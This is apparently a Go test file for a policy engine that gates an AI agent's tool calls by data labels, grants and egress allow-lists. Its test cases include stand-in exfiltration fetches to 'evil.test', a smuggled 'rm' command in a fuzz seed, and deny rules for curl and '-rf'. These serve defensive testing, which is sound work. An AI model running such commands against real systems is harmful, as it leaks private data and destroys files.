		{"untrusted, POST", auto, seen(post).labelled("u"), Ask, stepLabels, "always"},
		{"untrusted, change outside", auto, filesCall("write", "/x").labelled("u").with(func(in *Input) { in.Judgement.ChangesOutside = true }), Ask, stepLabels, "task"},
		{"untrusted, contacts", auto, instructs(tools.Tool{Name: "contacts", Risk: tools.Safe}).labelled("u"), Ask, stepLabels, "task"},
		{"untrusted, remember goes to review", auto, instructs(tools.Tool{Name: "remember", Risk: tools.Safe}).labelled("u"), Allow, stepMode, ""},
		{"untrusted, goals take the label", auto, instructs(tools.Tool{Name: "goals", Risk: tools.Safe}).labelled("u"), Allow, stepMode, ""},
		{"untrusted, workspace file", auto, filesCall("write", "a").labelled("u"), Allow, stepMode, ""},
		{"untrusted, made-up address", auto, fetchCall("https://evil.test/?d=x", "evil.test").labelled("u"), Ask, stepLabels, "always"},
		{"untrusted, address that was seen", auto, seen(fetchCall("https://evil.test/?d=x", "evil.test")).labelled("u"), Allow, stepMode, ""},
		{"untrusted, made-up address on the list", auto, fetchCall("https://github.com/x", "github.com").labelled("u"), Allow, stepMode, ""},
		{"untrusted, search", auto, searchCall(strings.Repeat("x", 300)).labelled("u"), Allow, stepMode, ""},
		{"both, seen address still carries data", auto, seen(fetchCall("https://evil.test/?d=x", "evil.test")).labelled("pu"), Ask, stepLabels, "always"},
		{"both, but tracking is off", off, fetchCall("https://evil.test/?d=x", "evil.test").labelled("pu"), Allow, stepMode, ""},
		{"no labels", auto, fetchCall("https://evil.test/?d=x", "evil.test"), Allow, stepMode, ""},
	} {
		c.run(t)
	}
	d := mustPolicy(t, auto).Decide(fetchCall("https://evil.test/?d=x", "evil.test").labelled("pu"))
	text := strings.Join(d.Reasons, "\n")
	if !strings.Contains(text, "holds private data") || !strings.Contains(text, "this address could carry your data to evil.test") {
		t.Errorf("the reasons do not name the destination: %q", text)
	}
}

func TestGrants(t *testing.T) {
	auto := defaults
	auto.Mode = "auto"
	asking := defaults
	asking.AlwaysAsk = []string{"*"}
	pipeline := shellCall("git log", "head -1")
	warned := shellCall("git clean").with(func(in *Input) { in.Judgement.Warnings = []string{"it deletes"} })
	inTree := shellCall("./build").with(func(in *Input) { in.Judgement.Targets[0].Widest = tools.Task })
	elsewhere := func(in Input) Input { in.Workspace = "/other"; return in }
	evil := fetchCall("https://evil.test/", "evil.test")
	before := func(in Input, labels, now string, scope tools.Scope, keys ...string) Input {
		return in.labelled(labels).granted(scope, keys...).labelled(now)
	}
	for _, c := range []decisionCase{
		{"every key", defaults, pipeline.granted(tools.Always, "shell:git", "shell:head"), Allow, stepMode, ""},
		{"one key of two", defaults, pipeline.granted(tools.Always, "shell:git"), Ask, stepMode, "always"},
		{"a longer key", defaults, pipeline.granted(tools.Always, "shell:git", "shell:header"), Ask, stepMode, ""},
		{"another case", defaults, pipeline.granted(tools.Always, "shell:Git", "shell:head"), Ask, stepMode, ""},
		{"keys are no patterns", defaults, pipeline.granted(tools.Always, "shell:*", "*"), Ask, stepMode, ""},
		{"the tool as a whole, for good", defaults, pipeline.granted(tools.Always, "shell"), Ask, stepMode, ""},
		{"the tool as a whole, for this turn", defaults, pipeline.granted(tools.Task, "shell"), Allow, stepMode, ""},
		{"for this turn, only builtins", defaults, shellCall().granted(tools.Task, "shell"), Allow, stepMode, ""},
		{"for this turn, a warning", defaults, warned.granted(tools.Task, "shell"), Ask, stepMode, "once"},
		{"for this turn, an opaque line", defaults, opaqueCall("$x").granted(tools.Task, "shell"), Ask, stepMode, "once"},
		{"a warning and its key", defaults, warned.granted(tools.Always, "shell:git"), Ask, stepMode, "once"},
		{"a grant that could not exist", defaults, inTree.granted(tools.Always, "shell:./build"), Ask, stepMode, "task"},
		{"the one that could", defaults, inTree.granted(tools.Task, "shell:./build"), Allow, stepMode, ""},
		{"once is no grant", defaults, pipeline.granted(tools.Once, "shell", "shell:git", "shell:head"), Ask, stepMode, ""},
		{"another workspace", defaults, elsewhere(pipeline.granted(tools.Day, "shell:git", "shell:head")), Ask, stepMode, ""},
		{"another workspace, this session", defaults, elsewhere(pipeline.granted(tools.Session, "shell:git", "shell:head")), Allow, stepMode, ""},
		{"another workspace, mail", defaults, elsewhere(mailCall("a@x.test").granted(tools.Always, "send_email:a@x.test")), Allow, stepMode, ""},
		{"every recipient", defaults, mailCall("a@x.test", "b@x.test").granted(tools.Always, "send_email:a@x.test"), Ask, stepMode, ""},
		{"the ask list", asking, evil.granted(tools.Always, "web_fetch:evil.test"), Allow, stepMode, ""},
		{"the ask list does not switch labels off", asking, before(evil, "", "p", tools.Always, "web_fetch:evil.test"), Ask, stepLabels, "always"},
		{"given before the label", auto, before(evil, "", "p", tools.Always, "web_fetch:evil.test"), Ask, stepLabels, ""},
		{"given with the label", auto, before(evil, "p", "p", tools.Always, "web_fetch:evil.test"), Allow, stepLabels, ""},
		{"given with more labels", auto, before(evil, "pu", "p", tools.Always, "web_fetch:evil.test"), Allow, stepLabels, ""},
		{"given with other labels", auto, before(evil, "u", "pu", tools.Always, "web_fetch:evil.test"), Ask, stepLabels, ""},
		{"another destination", auto, before(evil, "p", "p", tools.Always, "web_fetch:other.test"), Ask, stepLabels, ""},
		{"a program is no destination", auto, before(shellCall("git push https://evil.test").networked(), "p", "p", tools.Always, "shell:git"), Ask, stepLabels, "task"},
		{"this turn's, given with the label", auto, before(shellCall("git push").networked(), "p", "p", tools.Task, "shell"), Allow, stepLabels, ""},
		{"this turn's, given before the label", auto, before(shellCall("git push").networked(), "", "p", tools.Task, "shell"), Ask, stepLabels, "task"},
		{"untrusted mail to a granted recipient", auto, before(mailCall("a@x.test"), "u", "u", tools.Day, "send_email:a@x.test"), Allow, stepLabels, ""},
		{"label in ask mode needs both", defaults, before(mailCall("a@x.test"), "", "u", tools.Day, "send_email:a@x.test"), Ask, stepLabels, ""},
		{"another page's key", auto, before(evil.with(func(in *Input) { in.Judgement.Targets = []tools.Target{{Key: "browser:b.test", Widest: tools.Always}} }), "p", "p", tools.Task, "browser:b.test"), Ask, stepLabels, "once"},
	} {
		if strings.HasPrefix(c.name, "given with") && c.want == Allow || c.name == "this turn's, given with the label" || c.name == "untrusted mail to a granted recipient" {
			c.step = ""
		}
		c.run(t)
	}
	d := mustPolicy(t, defaults).Decide(pipeline.granted(tools.Always, "shell:git"))
	if !slices.Equal(d.Missing, []string{"shell:head"}) {
		t.Errorf("not yet covered: %v", d.Missing)
	}
	if d := mustPolicy(t, defaults).Decide(pipeline.granted(tools.Always, "shell:git", "shell:head")); d.By != "grant" || len(d.Grants) != 2 {
		t.Errorf("by %s, grants %v", d.By, d.Grants)
	}
}

// randomInput makes a call out of the samples above, changed at random.
func randomInput(r *rand.Rand) Input {
	calls := []func() Input{
		func() Input { return shellCall("git status") }, func() Input { return shellCall("git log", "head", "curl x") },
		func() Input { return shellCall() }, func() Input { return opaqueCall("$x") }, func() Input { return filesCall("write", "a") },
		func() Input { return fetchCall("https://evil.test/", "evil.test") }, func() Input { return fetchCall("https://github.com/", "github.com") },
		func() Input { return searchCall("x") }, func() Input { return mailCall("a@x.test", "b@y.test") }, mcpCall,
		func() Input { return shellCall("git fetch").networked() }, func() Input { return shellCall("ls").unboxed() },
	}
	in := calls[r.IntN(len(calls))]()
	coin := func(n int) bool { return r.IntN(n) == 0 }
	j := &in.Judgement
	if coin(8) {
		j.Warnings = []string{"w"}
	}
	if coin(8) {
		j.NotCovered = "it writes elsewhere"
	}
	if coin(4) {
		j.Widest = tools.Scope(r.IntN(5))
	}
	for i := range j.Targets {
		if coin(6) {
			j.Targets[i].Widest = tools.Scope(r.IntN(5))
		}
	}
	j.Sends, j.ReadsPrivate, j.Instructs = j.Sends || coin(6), coin(4), coin(6)
	in.URLSeen = coin(2)
	in.Labels = Labels{coin(2), coin(2)}
	in.Mode = []string{"ask", "strict", "auto"}[r.IntN(3)]
	in.Channel = []string{"cli", "api", "daemon"}[r.IntN(3)]
	keys := []string{"shell", "shell:git", "shell:head", "shell:curl", "shell:ls", "files", "web_fetch:evil.test", "send_email:a@x.test", "send_email:b@y.test", "mcp__wiki__search"}
	for range r.IntN(6) {
		in.Grants = append(in.Grants, Grant{Key: keys[r.IntN(len(keys))], Scope: tools.Scope(r.IntN(5)), Who: []string{"owner", "app"}[r.IntN(2)],
			Workspace: []string{"/ws", "/other"}[r.IntN(2)], Labels: Labels{coin(2), coin(2)}})
	}
	return in
}

func randomSettings(r *rand.Rand) sentinelConfig {
	s := defaults
	s.Mode = []string{"ask", "strict", "auto"}[r.IntN(3)]
	rules := []ruleConfig{shellRule("allow", "git *"), shellRule("deny", "curl *"), shellRule("ask", "*"), {Tool: "*", Action: "allow", Channel: "api"},
		{Tool: "files", Action: "deny", Match: map[string]string{"path": "/ws/*"}}, {Tool: "web_*", Action: "allow"}, {Tool: "mcp__*", Action: "ask"}}
	for range r.IntN(3) {
		s.Rules = append(s.Rules, rules[r.IntN(len(rules))])
	}
	for _, l := range []*[]string{&s.DenyTools, &s.AlwaysAllow, &s.AlwaysAsk} {
		if r.IntN(4) == 0 {
			*l = []string{[]string{"shell", "files", "web_*", "*"}[r.IntN(4)]}
		}
	}
	return s
}

// TestOrderProperties checks what must hold for every call and policy.
func TestOrderProperties(t *testing.T) {
	t.Parallel()
	r := rand.New(rand.NewPCG(3, 4))
	for range 1500 {
		s, in := randomSettings(r), randomInput(r)
		d := mustPolicy(t, s).Decide(in)
		looser := func(name string, s sentinelConfig, in Input) {
			if e := mustPolicy(t, s).Decide(in); e.Verdict > d.Verdict {
				t.Fatalf("%s turns %v (%s) into %v (%s): %+v\n%+v", name, d.Verdict, d.Step, e.Verdict, e.Step, s, in)
			}
		}
		x := s
		x.DenyTools = append(slices.Clone(s.DenyTools), "*")
		if e := mustPolicy(t, x).Decide(in); e.Verdict != Deny {
			t.Fatalf("deny_tools is beaten by %s: %+v", e.Step, s)
		}
		x = s
		x.AlwaysAsk = append(slices.Clone(s.AlwaysAsk), in.Tool.Name)
		looser("always_ask_tools", x, in)
		x = s
		x.Rules = append([]ruleConfig{{Tool: "*", Action: "ask"}}, s.Rules...)
		if d.Verdict == Allow {
			looser("an ask rule", x, in)
		}
		looser("private", s, in.with(func(in *Input) { in.Labels.Private = true }))
		looser("untrusted", s, in.with(func(in *Input) { in.Labels.Untrusted = true }))
		looser("a warning", s, in.with(func(in *Input) { in.Judgement.Warnings = []string{"w"} }))
		looser("no grants", s, in.with(func(in *Input) { in.Grants = nil }))
		looser("strict", s, in.with(func(in *Input) { in.Mode = "strict" }))
		x = s
		x.EgressAllowlist = nil
		looser("an empty allow-list", x, in)
		if in.Channel != "api" && !slices.ContainsFunc(s.Rules, func(r ruleConfig) bool { return r.Channel == "api" }) {
			looser("another app", s, in.with(func(in *Input) { in.Channel, in.Grants = "api", nil }))
		}
		warned := len(in.Judgement.Warnings) > 0
		switch {
		case d.Verdict == Allow && warned && d.Step != stepRules:
			t.Fatalf("a warning is let through by %s", d.Step)
		case d.Verdict == Allow && in.Judgement.Opaque != "" && (d.Step != stepMode || d.By != "mode"):
			t.Fatalf("an opaque line is let through by %s", d.Step)
		case d.Verdict == Ask && (warned || in.Judgement.Opaque != "") && len(d.Offered) != 1:
			t.Fatalf("%v is offered for a warning or an opaque line", d.Offered)
		case d.Verdict == Ask && (len(d.Offered) == 0 || d.Offered[0] != tools.Once):
			t.Fatalf("once is not offered: %v", d.Offered)
		}
	}
}

// TestOfferedIsStored checks that what an answer grants is what its text says:
// the call asks no more, and no call with another key runs.
func TestOfferedIsStored(t *testing.T) {
	t.Parallel()
	r := rand.New(rand.NewPCG(5, 6))
	checked := 0
	for range 2000 {
		p, in := mustPolicy(t, randomSettings(r)), randomInput(r)
		in.Grants = nil
		d := p.Decide(in)
		for _, scope := range d.Offered {
			grants := grantsFor(&in, scope)
			text := effect(scope, grants)
			if scope == tools.Once {
				if len(grants) > 0 || text != "this call only" {
					t.Fatalf("once grants %v: %q", grants, text)
				}
				continue
			}
			checked++
			after := in
			after.Grants = grants
			if e := p.Decide(after); e.Verdict != Allow {
				t.Fatalf("%v was answered, and the call asks again: %v %q\n%+v", scope, e.Step, e.Reasons, in)
			}
			for _, g := range grants {
				if g.Scope != scope || !strings.Contains(text, g.Key) {
					t.Fatalf("%q does not say %q", text, g.Key)
				}
			}
			other := randomInput(r)
			other.Grants = nil
			without := p.Decide(other)
			other.Grants = grants
			with := p.Decide(other)
			if with.Verdict == Allow && without.Verdict != Allow {
				for _, target := range other.targets() {
					named := strings.Contains(text, target.Key) || in.Tool.Name == "shell" && scope == tools.Task && other.Tool.Name == "shell"
					if !named || who(in.Channel) != who(other.Channel) || scope > target.Widest {
						t.Fatalf("%q lets %+v run", text, other)
					}
				}
			}
		}
	}
	if checked < 500 {
		t.Fatalf("only %d offers were checked", checked)
	}
}

func FuzzDecide(f *testing.F) {
	f.Add(uint64(1), "git *", "git status; rm x", "shell:git", "evil.test")
	f.Add(uint64(2), "*\n?", "\xff\xfe", "", "*.x")
	f.Add(uint64(3), "", "", ":", "")
	f.Fuzz(func(t *testing.T, seed uint64, pattern, text, key, host string) {
		r := rand.New(rand.NewPCG(seed, 0))
		s := randomSettings(r)
		s.Rules = append(s.Rules, shellRule([]string{"allow", "ask", "deny"}[r.IntN(3)], pattern))
		p, err := compilePolicy(s, knownNames())
		if err != nil {
			return
		}
		in := randomInput(r)
		in.Args = map[string]any{"command": text, "path": text, "to": []string{text}, "url": nil, "n": 1.5}
		in.Judgement.Commands = append(in.Judgement.Commands, text)
		in.Judgement.Argv = append(in.Judgement.Argv, nil, []string{""}, []string{text})
		in.Judgement.Targets = append(in.Judgement.Targets, tools.Target{Key: key, Widest: tools.Scope(r.IntN(7) - 1)})
		in.Judgement.Egress.Hosts = append(in.Judgement.Egress.Hosts, host, "")
		d := p.Decide(in)
		if d.Verdict == Allow && in.Judgement.Opaque != "" && d.By != "mode" {
			t.Fatalf("an opaque line is let through by %s", d.By)
		}
		if (d.Verdict == Ask) != (len(d.Offered) > 0) || len(d.Reasons) == 0 {
			t.Fatalf("%+v", d)
		}
		makeCard(cardInput{Input: &in, Decision: d, Words: text})
		explain(&in, d)
	})
}

// manyRules are rules of the usual forms, none of which is about the call of
// the benchmarks.
func manyRules(n int) sentinelConfig {
	s := defaults
	for i := range n {
		switch i % 5 {
		case 0:
			s.Rules = append(s.Rules, shellRule("deny", fmt.Sprintf("*tool%d -rf*", i)))
		case 1:
			s.Rules = append(s.Rules, shellRule("allow", fmt.Sprintf("tool%d *", i)))
		case 2:
			s.Rules = append(s.Rules, ruleConfig{Tool: "web_fetch", Action: "deny", Match: map[string]string{"url": fmt.Sprintf("https://h%d.test/*", i)}})
		case 3:
			s.Rules = append(s.Rules, shellRule("ask", fmt.Sprintf("git push*%d", i)))
		case 4:
			s.Rules = append(s.Rules, ruleConfig{Tool: "files", Action: "deny", Match: map[string]string{"path": fmt.Sprintf("/etc/%d*", i)}})
		}
	}
	return s
}

const benchLine = "git log --oneline -20 origin/main; head -5 README.md | wc -l"

func BenchmarkDecide(b *testing.B) {
	for _, n := range []int{50, 1000} {
		p := mustPolicy(b, manyRules(n))
		in := shellCall("git log --oneline -20 origin/main", "head -5 README.md", "wc -l").granted(tools.Always, "shell:git", "shell:head", "shell:wc")
		in.Args["command"] = benchLine
		b.Run(fmt.Sprintf("rules=%d", n), func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				if d := p.Decide(in); d.Verdict != Allow {
					b.Fatal(d)
				}
			}
		})
	}
}

// BenchmarkDecideParsed has the analysis of the line in it.
func BenchmarkDecideParsed(b *testing.B) {
	p := mustPolicy(b, manyRules(50))
	args := tools.Args{Values: map[string]any{"command": benchLine, "timeout": int64(60), "network": false}}
	facts := tools.Facts{Workspace: "/ws", Roots: []string{"/ws"}, Boxed: true, NetBlocked: true, Programs: map[string]tools.ProgramFact{
		"git": {Path: "/usr/bin/git"}, "head": {Path: "/usr/bin/head"}, "wc": {Path: "/usr/bin/wc"}}}
	in := Input{Tool: tools.Shell, Channel: "cli", Workspace: "/ws", Args: args.Values}.granted(tools.Always, "shell:git", "shell:head", "shell:wc")
	b.ReportAllocs()
	for b.Loop() {
		plan, err := tools.Shell.Assess(args)
		if err != nil {
			b.Fatal(err)
		}
		in.Judgement = tools.Shell.Judge(args, plan, facts)
		if d := p.Decide(in); d.Verdict != Allow {
			b.Fatal(d)
		}
	}
}
